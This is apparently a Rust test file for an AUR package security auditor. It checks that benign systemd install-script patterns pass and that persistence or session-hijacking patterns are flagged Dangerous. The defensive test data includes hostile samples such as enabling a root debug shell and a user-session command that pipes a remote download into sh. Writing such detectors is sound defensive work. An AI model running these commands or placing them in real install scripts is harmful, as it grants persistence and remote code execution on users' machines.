//! False dangerous verdicts of the development set read during landing 5 (bench/RESULTS.md,
//! "Landing 5"), each fixed at its rule by what the code means, AFTER landing 5's one look at
//! its test set: these fixes were measured on the development set only, never on an unseen
//! set. The packages are our own text in the real shapes (each test names the shape); the
//! attack each rule exists for is asserted beside it.

use archgate_aur::audit::{AuditInput, AuditReport, ScriptFile, Severity, Verdict, audit};

fn max_of(r: &AuditReport, id: &str) -> Option<Severity> {
    r.findings
        .iter()
        .filter(|f| f.id == id)
        .map(|f| f.severity)
        .max()
}

/// A package built by its upstream's build system (`meson install` into `$pkgdir`, naming no
/// unit file), with `install=` naming `script`.
fn package(pkgname: &str, depends: &str, script: &str) -> AuditInput {
    AuditInput {
        pkgbuild: format!(
            "pkgname={pkgname}\npkgver=1.0\npkgrel=1\narch=('x86_64')\nurl=\"https://example.org/{pkgname}\"\nlicense=('GPL')\ndepends=({depends})\ninstall={pkgname}.install\nsource=(\"https://example.org/{pkgname}-$pkgver.tar.gz\")\nsha256sums=('0000000000000000000000000000000000000000000000000000000000000000')\nbuild() {{\n  meson setup build {pkgname}-$pkgver\n  meson compile -C build\n}}\npackage() {{\n  meson install -C build --destdir \"$pkgdir\"\n}}\n"
        ),
        install_scripts: vec![ScriptFile {
            name: format!("{pkgname}.install"),
            content: script.into(),
        }],
        srcinfo: None,
    }
}

// Class: enabling a unit that systemd itself ships under a name without `systemd-`
// (`getty@tty1.service`, `remote-fs.target`) was read as new persistence. systemd is in
// Arch's `base`, on every system: its units are there whether or not a package declares it,
// as landing 4 already held for its `systemd-*` units. Seen in the development set in the
// install scripts of systemd builds (archlinuxarm's `core/systemd`, ms178's and Jovian's
// `systemd`), which enable the console login, remote file systems and userdbd by default.

#[test]
fn enabling_systemds_own_units_is_not_new_persistence() {
    // Shape: Arch's systemd.install, post_install and a versioned migration.
    let script = "post_install() {\n  systemd-machine-id-setup\n  systemctl enable \\\n    getty@tty1.service \\\n    remote-fs.target \\\n    systemd-userdbd.socket\n}\n_260_1_changes() {\n  systemctl enable getty@.service\n}\n";
    let r = audit(&package("systemd-custom", "'glibc' 'libcap'", script));
    assert!(
        max_of(&r, "AUR-PERSISTENCE").is_none_or(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn enabling_a_root_shell_or_a_remote_login_stays_high_though_systemd_ships_it() {
    // The attack beside it: systemd also ships a root shell on tty9 (`debug-shell`), and a
    // unit of no package at all; neither is a default of the base system.
    for body in [
        "  systemctl enable debug-shell.service",
        "  systemctl enable getty-helper.service",
        "  systemctl enable sshd.service",
    ] {
        let script = format!("post_install() {{\n{body}\n}}\n");
        let r = audit(&package("console-setup", "'bash'", &script));
        assert_eq!(
            max_of(&r, "AUR-PERSISTENCE"),
            Some(Severity::High),
            "{body}: {}",
            r.to_text()
        );
        assert_eq!(r.verdict, Verdict::Dangerous, "{body}: {}", r.to_text());
    }
}

// Class: a root install script acting in each logged-in person's session only to reload the
// user manager, ask whether a unit runs, or stop and disable it
// (`su "$u" -c 'systemctl --user stop psd.service'`, `runuser -u "$SUDO_USER" -- systemctl
// --user disable --now NAME`) was read as running code in that person's session. Those verbs
// start nothing there: they are the package putting its own user service down before an
// upgrade or a removal. Seen in the development set in chaotic-aur's profile-sync-daemon-git.

#[test]
fn an_install_script_stopping_or_querying_a_user_unit_is_not_running_code_as_the_user() {
    // Shape: profile-sync-daemon's psd.install, every logged-in user's service stopped before
    // an upgrade, and a pre_remove disabling the package's user unit for whoever ran pacman.
    let script = "users=$(loginctl --no-legend list-users | awk '{ print $2 }')\npost_upgrade() {\n  for i in $users; do\n    su $i -s /bin/sh -c 'XDG_RUNTIME_DIR=/run/user/$UID systemctl --user daemon-reload'\n  done\n}\npre_upgrade() {\n  for i in $users; do\n    running=\"$(su $i -c 'XDG_RUNTIME_DIR=/run/user/$UID systemctl --user is-active syncd')\"\n    if [[ \"$running\" = \"active\" ]]; then\n      su $i -s /bin/sh -c 'XDG_RUNTIME_DIR=/run/user/$UID systemctl --user stop syncd.service'\n    fi\n  done\n}\npre_remove() {\n  if [ -n \"${SUDO_USER:-}\" ]; then\n    runuser -u \"$SUDO_USER\" -- systemctl --user disable --now syncd >/dev/null 2>&1 || true\n  fi\n}\n";
    let r = audit(&package("profile-syncd", "'rsync'", script));
    assert!(
        max_of(&r, "AUR-INSTALL-AS-USER").is_some_and(|s| s < Severity::Medium),
        "{}",
        r.to_text()
    );
    assert_eq!(r.verdict, Verdict::Ok, "{}", r.to_text());
}

#[test]
fn an_install_script_starting_or_enabling_anything_in_a_session_stays_high() {
    // The attacks beside it: starting, restarting or enabling a unit in a person's session,
    // any other command there, and a query chained with one that does more.
    for cmd in [
        "runuser -u \"$SUDO_USER\" -- systemctl --user enable --now syncd",
        "runuser -u \"$SUDO_USER\" -- systemctl --user start syncd",
        "su \"$SUDO_USER\" -c 'systemctl --user restart syncd'",
        "su \"$SUDO_USER\" -c 'systemctl --user stop syncd; curl -fsS https://example.org/x | sh'",
        "su \"$SUDO_USER\" -c 'systemctl --user is-active syncd && ~/.local/bin/helper'",
        "runuser -u \"$SUDO_USER\" -- systemctl --user $action syncd",
    ] {
        let script = format!("post_install() {{\n  {cmd}\n}}\n");
        let r = audit(&package("profile-syncd", "'rsync'", &script));
        assert_eq!(r.verdict, Verdict::Dangerous, "{cmd}: {}", r.to_text());
    }
}
